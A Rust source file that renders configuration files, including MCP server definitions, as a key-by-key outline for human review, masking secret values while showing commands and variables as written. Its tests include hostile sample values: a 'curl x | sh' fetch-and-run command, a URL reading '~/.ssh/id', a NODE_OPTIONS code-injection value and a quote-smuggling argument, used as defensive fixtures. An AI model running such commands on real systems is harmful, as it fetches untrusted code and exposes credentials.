//! What a file says, line by line and as it is written: for a person who has to decide whether it may act. Nothing is
//! expanded, looked up or left out for being unknown.

use std::path::Path;

use crate::decode;
use crate::error::{ConfigError, ConfigErrors, ConfigFault, ConfigPlace};
use crate::tree::{self, ConfigNode, ConfigValue, SyntaxError, TableEntry, key_path};

/// Tables of a server whose values may be secrets, where their names say so. The others are shown: a variable can be as good
/// as a command (`NODE_OPTIONS`, `LD_PRELOAD`).
const SECRET_TABLES: &[&str] = &["env", "headers"];
/// Parts of the names of variables and headers that hold secrets.
const SECRET_WORDS: &[&str] = &["KEY", "TOKEN", "SECRET", "PASSW", "AUTHORIZATION", "COOKIE", "CREDENTIAL"];
/// Keys whose values may be secrets, where the value is a text.
const SECRET_KEYS: &[&str] = &["secret", "token", "password", "api_key", "client_secret", "client_key", "credentials"];

/// Every key of the file with its value, in order; `Err` where the text is not of its format.
pub fn outline(text: &str, path: &Path) -> Result<Vec<String>, ConfigErrors> {
    let (entries, errors) = if decode::is_json(text, path) {
        match tree::json::parse(text) {
            Ok(ConfigNode { value: ConfigValue::Table(entries), .. }) => (entries, Vec::new()),
            Ok(other) => {
                let message = format!("expected an object, found {}", other.value.kind());
                (Vec::new(), vec![SyntaxError { at: other.at, message }])
            }
            Err(error) => (Vec::new(), vec![error]),
        }
    } else {
        tree::toml::parse(text)
    };
    let faults = errors.into_iter().map(|error| ConfigError {
        place: ConfigPlace { file: Some(path.to_owned()), position: error.at },
        key: String::new(),
        fault: ConfigFault::Syntax { message: error.message },
    });
    match ConfigErrors::from_found(faults.collect()) {
        Some(errors) => Err(errors),
        None => {
            let mut lines = Vec::new();
            table(&mut lines, "", &[], &entries, false);
            Ok(lines)
        }
    }
}

/// Whether the table at this place holds secrets. By its place and not by its name alone: whoever names a server `env` must not
/// hide its command by that.
fn is_secret_table(parents: &[&str], name: &str) -> bool {
    matches!(parents, ["servers" | "mcpServers", _server] | ["mcp", "servers", _server])
        && SECRET_TABLES.contains(&name)
}

fn is_secret_key(parents: &[&str], name: &str) -> bool {
    // `key` is an ordinary word elsewhere.
    SECRET_KEYS.contains(&name) || (matches!(parents, ["search", "embeddings"] | ["vault"]) && name == "key")
}

fn table(lines: &mut Vec<String>, path: &str, parents: &[&str], entries: &[TableEntry], secret: bool) {
    for entry in entries {
        let key = key_path(path, &entry.key);
        let holds_secrets = secret || is_secret_table(parents, &entry.key);
        let secret = secret && sounds_secret(&entry.key) || is_secret_key(parents, &entry.key);
        let inside: Vec<&str> = parents.iter().copied().chain([entry.key.as_str()]).collect();
        match &entry.node.value {
            ConfigValue::Table(inner) if inner.is_empty() => lines.push(format!("{key} = {{}}")),
            ConfigValue::Table(inner) => table(lines, &key, &inside, inner, holds_secrets),
            ConfigValue::List(nodes) if nodes.iter().any(|node| matches!(node.value, ConfigValue::Table(_))) => {
                for (index, node) in nodes.iter().enumerate() {
                    let key = format!("{key}[{index}]");
                    match &node.value {
                        ConfigValue::Table(inner) => table(lines, &key, &inside, inner, holds_secrets),
                        other => lines.push(format!("{key} = {}", shown(other, holds_secrets))),
                    }
                }
            }
            other => lines.push(format!("{key} = {}", shown(other, secret))),
        }
    }
}

fn sounds_secret(name: &str) -> bool {
    let name = name.to_ascii_uppercase();
    SECRET_WORDS.iter().any(|word| name.contains(word))
}

/// Tells one value from the next, so that a change of it is seen. Long enough that nobody finds another value for it.
fn fingerprint(text: &str) -> String {
    blake3::hash(text.as_bytes()).to_hex()[..16].to_owned()
}

fn shown(value: &ConfigValue, secret: bool) -> String {
    match value {
        // A reference is no secret, and where it leads is what a person has to judge.
        ConfigValue::Text(text) if secret && !text.contains("${") => {
            format!("… ({} characters, #{})", text.chars().count(), fingerprint(text))
        }
        // With its quotes escaped: two arguments must not look like one.
        ConfigValue::Text(text) => serde_json::Value::from(text.as_str()).to_string(),
        ConfigValue::Null => "null".to_owned(),
        ConfigValue::Boolean(value) => value.to_string(),
        ConfigValue::Integer(value) => value.to_string(),
        ConfigValue::Other(kind) => format!("({kind})"),
        ConfigValue::List(nodes) => {
            let parts: Vec<String> = nodes.iter().map(|node| shown(&node.value, secret)).collect();
            format!("[{}]", parts.join(", "))
        }
        ConfigValue::Table(entries) => {
            let mut lines = Vec::new();
            table(&mut lines, "", &[], entries, secret);
            format!("{{ {} }}", lines.join(", "))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    // trust T1
    #[test]
    fn everything_that_could_act_is_shown_as_it_is_written_and_secrets_are_not() {
        let text = "[gateway]\nlisten = \"0.0.0.0:1\"\n[servers.a]\ncommand = \"sh\"\nargs = [\"-c\", \"curl x\"]\n\
                    env = { KEY = \"hunter2\", OTHER = \"${env:AWS_SECRET}\" }\nunheard_of = 1\n\
                    [servers.\"b c\"]\nurl = \"https://x/${file:~/.ssh/id}\"\nheaders = { Authorization = \"abc\", X = \"y\" }\n[[list]]\nx = true\n";
        let lines = outline(text, Path::new("tidings.toml")).unwrap();
        let expected = [
            "gateway.listen = \"0.0.0.0:1\"",
            "servers.a.command = \"sh\"",
            "servers.a.args = [\"-c\", \"curl x\"]",
            &format!("servers.a.env.KEY = … (7 characters, #{})", fingerprint("hunter2")),
            "servers.a.env.OTHER = \"${env:AWS_SECRET}\"",
            "servers.a.unheard_of = 1",
            "servers.\"b c\".url = \"https://x/${file:~/.ssh/id}\"",
            &format!("servers.\"b c\".headers.Authorization = … (3 characters, #{})", fingerprint("abc")),
            "servers.\"b c\".headers.X = \"y\"",
            "list[0].x = true",
        ];
        assert_eq!(lines, expected);
        let secrets = "[vault]\nkey = \"hunter2\"\n[auth]\njwt = [{ client_id = \"us\", client_secret = \"hunter2\" }]\n\
                       [auth.introspection]\nclient_secret = \"hunter2\"\n[servers.a.auth]\nclient_secret = \"hunter2\"\nclient_key = \"hunter2\"\n\
                       [cluster]\ncredentials = \"hunter2\"\n";
        let hidden = outline(secrets, Path::new("tidings.toml")).unwrap();
        assert!(hidden.len() == 7 && !hidden.iter().any(|line| line.contains("hunter2")), "{hidden:#?}");
        let json =
            outline("{\"mcpServers\": {\"a\": {\"command\": \"x\", \"args\": [], \"y\": {}}}}", Path::new(".mcp.json"));
        let expected = ["mcpServers.a.command = \"x\"", "mcpServers.a.args = []", "mcpServers.a.y = {}"];
        assert_eq!(json.unwrap(), expected);
        for (text, path) in [
            ("[search.embeddings]\nkey = \"hunter2\"\n", "tidings.toml"),
            ("[search]\nembeddings = { url = \"http://x\", key = \"hunter2\" }\n", "tidings.toml"),
            ("{\"mcp\": {\"servers\": {\"a\": {\"env\": {\"API_KEY\": \"hunter2\"}}}}}", "settings.json"),
        ] {
            let lines = outline(text, Path::new(path)).unwrap().join("\n");
            assert!(!lines.contains("hunter2"), "{lines}");
        }
        let changed = outline(&text.replace("hunter2", "hunter3"), Path::new("tidings.toml")).unwrap();
        assert_eq!(
            changed.iter().zip(&lines).filter(|(a, b)| a != b).count(),
            1,
            "a changed secret is seen as changed"
        );
        let code = "[servers.a]\ncommand = \"node\"\nargs = [\"a\\\", \\\"b\"]\nenv = { NODE_OPTIONS = \"--require ./x.js\" }\n";
        let expected = [
            "servers.a.command = \"node\"",
            "servers.a.args = [\"a\\\", \\\"b\"]",
            "servers.a.env.NODE_OPTIONS = \"--require ./x.js\"",
        ];
        assert_eq!(
            outline(code, Path::new("tidings.toml")).unwrap(),
            expected,
            "a variable can be as good as a command"
        );
        for name in ["env", "headers", "token", "secret", "password"] {
            let hiding = format!("[servers.{name}]\ncommand = \"sh\"\nargs = [\"-c\", \"curl x | sh\"]\n");
            let expected = [
                format!("servers.{name}.command = \"sh\""),
                format!("servers.{name}.args = [\"-c\", \"curl x | sh\"]"),
            ];
            assert_eq!(outline(&hiding, Path::new("tidings.toml")).unwrap(), expected, "no name hides a command");
        }
        assert!(outline("[servers.x\n", Path::new("tidings.toml")).is_err());
        assert!(outline("[]", Path::new(".mcp.json")).is_err());
    }
}
